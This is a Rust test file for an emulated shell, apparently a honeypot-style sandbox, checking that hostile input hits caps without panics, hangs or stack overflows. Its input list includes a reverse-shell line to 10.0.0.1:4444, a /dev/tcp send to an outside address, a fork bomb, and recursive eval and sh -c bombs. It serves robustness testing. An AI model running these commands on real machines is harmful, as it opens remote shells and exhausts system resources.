//! Caps, stack safety and no-panic tests: every hostile input ends quickly, without a
//! panic, a hang or a stack overflow (run on 2 MiB threads like a tokio worker).

use crate::shell::{Mode, Shell, ShellLimits};

use super::tests::{T, cfg, now};

/// Runs `f` on a thread with a 2 MiB stack (the tokio default) and fails on overflow.
fn small_stack<F: FnOnce() + Send + 'static>(f: F) {
    let h = std::thread::Builder::new()
        .stack_size(2 << 20)
        .spawn(f)
        .expect("spawn");
    assert!(h.join().is_ok(), "thread died");
}

#[test]
fn deep_nesting_fits_a_small_stack() {
    small_stack(|| {
        let mut t = T::new();
        let n = 60;
        let sub = format!("echo {}x{}", "$(echo ".repeat(n), ")".repeat(n));
        let _ = t.run(&sub);
        let ifs = format!(
            "{}echo deep{}",
            "if true; then ".repeat(n),
            "; fi".repeat(n)
        );
        assert_eq!(t.out(&ifs), "deep\n");
        let par = format!("{}echo p{}", "( ".repeat(n), " )".repeat(n));
        let _ = t.run(&par);
        let braces = format!("{}echo b;{}", "{ ".repeat(n), " }".repeat(n));
        assert_eq!(t.out(&braces), "b\n");
        let (_, err, st) = t.run("f() { f; }; f");
        assert!(
            err.contains("maximum function nesting level exceeded"),
            "{err}"
        );
        assert_eq!(st, 1);
        let _ = t.run("f() { echo $(f); }; f");
        let _ = t.run("x='eval \"$x\"'; eval \"$x\"");
        let _ = t.run("s='sh -c \"$s\"'; export s; sh -c \"$s\"");
        let _ = t.run("echo 'source /tmp/r.sh' > /tmp/r.sh; source /tmp/r.sh");
        let _ = t.run("echo 'bash /tmp/b.sh' > /tmp/b.sh; bash /tmp/b.sh");
        let _ = t.run("f() { if true; then { ( g ); } fi; }; g() { f; }; f");
        let arith = format!("echo $(({}1{}))", "(".repeat(60), ")".repeat(60));
        assert_eq!(t.out(&arith), "1\n");
        let long_chain = format!("echo $((1{}))", "+1".repeat(5000));
        let _ = t.run(&long_chain);
        let neg = format!("x='{}1'; echo $((x))", "-".repeat(5000));
        let _ = t.run(&neg);
        let x = format!("x='{}1{}'; echo $((x))", "(".repeat(500), ")".repeat(500));
        let _ = t.run(&x);
    });
}

#[test]
fn loops_and_commands_are_capped() {
    let mut t = T::new();
    let (_, _, _) = t.run("while true; do :; done");
    let (_, _, _) = t.run("for ((;;)); do :; done");
    let (_, _, _) = t.run("until false; do :; done");
    let out = t.out("for i in 1 2; do echo $i; done");
    assert_eq!(out, "1\n2\n");
    let (o, _, _) = t.run("i=0; while :; do i=$((i+1)); done; echo never");
    assert!(!o.contains("never"));
    let limits = ShellLimits {
        max_commands_per_line: 50,
        ..ShellLimits::default()
    };
    let mut t = T::with_limits(limits);
    let o = t.out("for i in $(seq 1 100); do echo $i; done");
    assert!(o.lines().count() < 60, "{o}");
}

#[test]
fn output_is_capped_per_line() {
    let limits = ShellLimits {
        max_output_bytes: 1000,
        ..ShellLimits::default()
    };
    let mut sh = Shell::new(super::tests::persona_arc(), cfg(Mode::Exec, limits), now());
    let s = sh.exec("while :; do echo yyyyyyyyyyyyyyy; done", now());
    assert!(s.out.len() <= 1000);
    let truncated = s.observations.iter().any(|o| {
        matches!(
            o,
            crate::Observation::CommandResult {
                truncated: true,
                ..
            }
        )
    });
    assert!(truncated);
    let s = sh.exec("yes | head -n 3", now());
    assert_eq!(s.out, b"y\ny\ny\n");
}

#[test]
fn expansions_are_capped() {
    let mut t = T::new();
    let (o, _, _) = t.run("echo {1..1000000}; echo after");
    assert!(o.len() < 200_000);
    let _ = t.run("echo {1..100}{1..100}{1..100}");
    let _ = t.run("echo {99999999999999999999..1}");
    let _ = t.run("x=$(printf '%05000d' 0); y=${x//0/ab}; echo ${#y}");
    let _ = t.run("x=$(printf '%0300d' 0); [[ $x == *1*1*1*1*1*1*1*1* ]]; echo $?");
    let limits = ShellLimits {
        max_vars: 100,
        ..ShellLimits::default()
    };
    let mut t = T::with_limits(limits);
    let _ = t.run("for i in $(seq 1 500); do eval v$i=1; done");
    let (o, _, _) = t.run("echo ok");
    assert_eq!(o, "ok\n");
    let _ = t.run("a=(); for i in $(seq 1 500); do a[$i]=x; done");
    let _ = t.run("f() { :; }; for i in $(seq 1 500); do eval \"g$i() { :; }\"; done");
}

#[test]
fn hostile_input_never_panics() {
    let inputs = [
        "echo 'unterminated",
        "echo \"unterminated",
        "echo $(",
        "echo ${",
        "echo `",
        "((",
        "))",
        "$((1/0))",
        "echo $((1/0))",
        "${x:?}",
        "echo ${x:?boom}",
        "${}",
        "${!}",
        "${#@}",
        "${@:9:9}",
        "${x:99999999999:-99999999999}",
        "echo $((2**-1))",
        "echo $((9223372036854775807*9))",
        "echo $((-9223372036854775807-1 / -1))",
        "echo $((1<<99))",
        "[[",
        "[[ ]]",
        "[ ",
        "test -",
        "case",
        "case x in",
        "if",
        "fi",
        "done",
        "for",
        "for x in",
        "while",
        "function",
        "f() {",
        "{ }",
        "( )",
        "|",
        "||",
        "&&",
        ";;",
        ";",
        "&",
        "!",
        "! !",
        "> ",
        "<",
        "<<",
        "<<<",
        "2>&",
        ">&-",
        "echo >&99",
        "cat <&5",
        "exec 9>&1",
        "exec",
        "exec >",
        "a=(",
        "a=(1 2",
        "a[",
        "a[]=1",
        "a[-5]=1",
        "x=${x:=${x:=1}}",
        "\\",
        "echo \\",
        "$'\\x'",
        "$'\\u'",
        "$'\\c'",
        "echo $'\\U110000'",
        "printf '%*d' 999999999 1",
        "printf '%.*f' -5 1",
        "printf '%' ",
        "printf '%q'",
        "printf -v",
        "read",
        "read -a",
        "getopts",
        "getopts ab",
        "shift -1",
        "shift x",
        "set -o nosuch",
        "set --",
        "declare -A",
        "local",
        "unset",
        "unset -f",
        "export =",
        "export 1a=2",
        "alias =x",
        "alias ''",
        "trap",
        "trap x NOSIG",
        "kill -NOSIG 1",
        "kill %1",
        "history -d 99999",
        "history x",
        "cd ''",
        "cd -",
        "cd ~nouser",
        "source",
        ". /dev/null",
        "source /etc",
        "bash -c",
        "sh -c",
        "sh -c 'echo )'",
        "bash /nonexist",
        "eval ')'",
        "eval",
        "echo ~+999999999999999999999999",
        "echo {1..3..0}",
        "echo {a..Z}",
        "echo {1..2..-1}",
        "echo {z..a..3}",
        "echo $[1+1]",
        "echo ${a[99999999999999999999]}",
        "echo ${#a[@]}",
        "echo ${a[@]:1:2}",
        "x=1; echo ${x[@]}",
        "[[ a =~ ( ]]",
        "[[ a =~ [ ]]",
        "[[ a =~ * ]]",
        "[[ -z ]]",
        "[[ a -eq b ]]",
        "[ 1 -eq ]",
        "echo */*/*/*/*/*",
        "echo /*/*/*",
        "echo /proc/*/*",
        "ls **/**",
        "echo [",
        "echo [a-",
        "echo [!]",
        "echo [[:nope:]]",
        "cat < /dev/zero | head -c 5",
        "cat /dev/urandom | head -c 2",
        "echo hi > /dev/tcp/1.2.3.4/80",
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        "echo x > /proc/x",
        "echo x > /",
        "echo x > /nonexistent/dir/f",
        "echo x >> /etc",
        "mkdir -p /tmp/d; cd /tmp/d; ./x",
        "printf '\\x7fELF' > /tmp/e; chmod +x /tmp/e; /tmp/e",
        "time",
        "time true",
        "coproc true",
        "echo $BASH_VERSINFO ${BASH_VERSINFO[@]}",
        "exit abc",
        "exit 1 2",
        "logout",
        "return",
        "break 0",
        "continue x",
        "(exit 300)",
        "f() { return 999; }; f; echo $?",
        "\u{0}\u{1}\u{7f}",
        "é ü 日本 \u{202e}",
        "echo -e '\\xff\\xfe'",
        ":(){ :|:& };:",
    ];
    small_stack(move || {
        for inp in inputs {
            let mut t = T::new();
            let _ = t.run(inp);
            let mut p = Shell::new(
                super::tests::persona_arc(),
                cfg(
                    Mode::Pty {
                        term: "xterm".into(),
                        cols: 80,
                        rows: 24,
                    },
                    ShellLimits::default(),
                ),
                now(),
            );
            p.start(now());
            let _ = p.feed(format!("{inp}\r").as_bytes(), now());
            let _ = p.feed(b"\x03\x04", now());
            let mut q = Shell::new(
                super::tests::persona_arc(),
                cfg(Mode::Pipe, ShellLimits::default()),
                now(),
            );
            let _ = q.feed(format!("{inp}\n").as_bytes(), now());
            let _ = q.eof(now());
        }
    });
}

#[test]
fn random_input_never_panics() {
    let alphabet: Vec<char> =
        "abcx $(){}[]'\"`\\|&;<>!*?~#=+-/:,.0123456789\n\tifthenfidodonecaseesac@%^"
            .chars()
            .collect();
    small_stack(move || {
        let mut rng = crate::commands::Rng::new(42);
        for _ in 0..400 {
            let len = 1 + rng.below(60) as usize;
            let s: String = (0..len)
                .map(|_| {
                    *alphabet
                        .get(rng.below(alphabet.len() as u64) as usize)
                        .unwrap_or(&'x')
                })
                .collect();
            let mut t = T::new();
            let _ = t.run(&s);
        }
    });
}

#[test]
fn long_and_deep_lines_are_refused() {
    let mut t = T::new();
    let (_, err, st) = t.run(&format!("echo {}", "a".repeat(70_000)));
    assert_eq!(st, 2);
    assert!(err.contains("syntax error"), "{err}");
    let (_, err, st) = t.run(&format!(
        "echo {}x{}",
        "$(echo ".repeat(200),
        ")".repeat(200)
    ));
    assert_eq!(st, 2, "{err}");
    let pipes = format!("true{}", " | cat".repeat(10_000));
    let _ = t.run(&pipes);
    let ands = format!("true{}", " && true".repeat(9_000));
    let _ = t.run(&ands);
}

#[test]
fn nest_guard_alone_protects_the_stack() {
    small_stack(|| {
        let limits = ShellLimits {
            max_call_depth: 100_000,
            max_nesting: 64,
            ..ShellLimits::default()
        };
        let mut t = T::with_limits(limits);
        let _ = t.run("f() { echo $(f); }; f");
        let _ = t.run("f() { f; }; f");
        let _ = t.run("f() { (f); }; f");
        let _ = t.run("f() { x=$(f) ; }; f");
        let _ = t.run("f() { [[ $(f) ]]; }; f");
        let _ = t.run("f() { case $(f) in *) f;; esac; }; f");
        let _ = t.run("f() { for i in $(f); do :; done; }; f");
        let _ = t.run("f() { f | f; }; f");
        let _ = t.run("f() { { { { { { { { f; }; }; }; }; }; }; }; }; f");
        let _ = t.run("f() { eval f; }; f");
        let _ = t.run("f() { cat <<< \"$(f)\"; }; f");
        let _ = t.run("f() { echo $((  $(f) )); }; f");
        let _ = t.run("echo 'bash /tmp/b.sh' > /tmp/b.sh; bash /tmp/b.sh");
        let _ = t.run("echo '. /tmp/s.sh' > /tmp/s.sh; . /tmp/s.sh");
    });
}

#[test]
#[ignore]
fn stack_probe() {
    small_stack(|| {
        let limits = ShellLimits {
            max_call_depth: 100_000,
            ..ShellLimits::default()
        };
        for cmd in [
            "f() { echo $(f); }; f",
            "f() { f; }; f",
            "f() { (f); }; f",
            "f() { f | f; }; f",
            "f() { eval f; }; f",
            "f() { { { { { { { { f; }; }; }; }; }; }; }; }; f",
            "f() { cat <<< \"$(f)\"; }; f",
            "f() { [[ $(f) ]]; }; f",
            "f() { for i in $(f); do :; done; }; f",
        ] {
            super::STACK_PROBE.with(|c| c.set((0, 0, 0)));
            let mut t = T::with_limits(limits);
            let _ = t.run(cmd);
            let (_, max, nest) = super::STACK_PROBE.with(|c| c.get());
            println!(
                "{cmd}: {max} bytes at nest {nest} => {} per unit",
                max / nest.max(1)
            );
        }
    });
}

#[test]
fn unterminated_nesting_is_not_exponential() {
    let start = std::time::Instant::now();
    let mut t = T::new();
    for text in [
        format!("{}echo", "( ".repeat(60)),
        format!("{}echo", "case x in x) ".repeat(60)),
        format!("{}echo", "if true; then case x in x) ".repeat(30)),
        format!("{}echo", "((".repeat(60)),
    ] {
        let (_, err, st) = t.run(&text);
        assert_eq!(st, 2, "{err}");
        assert!(crate::interp::parse::is_incomplete(&text));
    }
    assert!(start.elapsed() < std::time::Duration::from_secs(5));
}

#[test]
fn heavy_lines_finish_quickly() {
    let start = std::time::Instant::now();
    let mut t = T::new();
    let _ = t.run("for i in $(seq 1 10000); do x=$((i*2)); done; echo $x");
    let _ = t.run("i=0; while [ $i -lt 100000 ]; do i=$((i+1)); done");
    let _ = t.run("f() { echo $1; }; for i in {1..5000}; do f $i | cat; done > /dev/null");
    let _ = t.run("x=$(printf '%0200000d' 0); echo ${#x}; y=${x//0/ab}; echo ${#y}");
    let _ = t.run("for i in {1..3000}; do echo \"line $i\"; done | sort | uniq | wc -l");
    let elapsed = start.elapsed();
    assert!(elapsed < std::time::Duration::from_secs(60), "{elapsed:?}");
    println!("heavy lines took {elapsed:?}");
}
